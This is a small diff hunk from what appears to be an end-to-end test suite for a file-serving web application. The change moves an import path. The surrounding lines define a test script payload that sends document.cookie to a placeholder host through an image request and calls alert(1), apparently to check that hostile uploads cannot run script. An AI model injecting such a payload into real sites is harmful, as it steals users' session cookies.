@@ -11,7 +11,7 @@ import pytest
 
 from tests.e2e.page.samples import make_pdf, make_zip
 from tests.e2e.page.steps import fill_sign_in
-from tests.service import ADMIN_PASSWORD, Service
+from tests.support.service import ADMIN_PASSWORD, Service
 
 FOLDER = "/files/hostile"
 SCRIPT = "document.title='ran';parent.postMessage('ran','*');new Image().src='{there}/'+document.cookie;alert(1)"
